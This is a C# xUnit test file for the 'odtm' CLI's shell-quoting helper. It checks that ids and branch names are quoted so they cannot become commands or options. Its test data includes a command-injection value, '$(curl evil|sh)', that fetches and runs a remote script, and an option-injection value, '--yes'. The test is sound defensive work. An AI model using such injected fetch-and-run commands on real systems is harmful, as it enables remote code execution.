using OrleansDtm.Cli.Output;
using Xunit;

namespace OrleansDtm.WireTests.Cli;

/// <summary>Commands that odtm shows for copying: ids of submitters must not become commands or options.</summary>
public sealed class ShellTextTests
{
    [Theory]
    [InlineData("g-1", "02", "odtm retry g-1 --branch 02 --op action")]
    [InlineData("g-1", "$(curl evil|sh)", "odtm retry g-1 --branch '$(curl evil|sh)' --op action")]
    [InlineData("a b", "it's", @"odtm retry 'a b' --branch 'it'\''s' --op action")]
    [InlineData("--yes", "-x", "odtm retry --branch=-x --op action -- --yes")]
    public void Ids_are_quoted(string gid, string branch, string command) => Assert.Equal(
        command, ShellText.Command("retry", [gid], ("branch", branch), ("op", "action")));
}
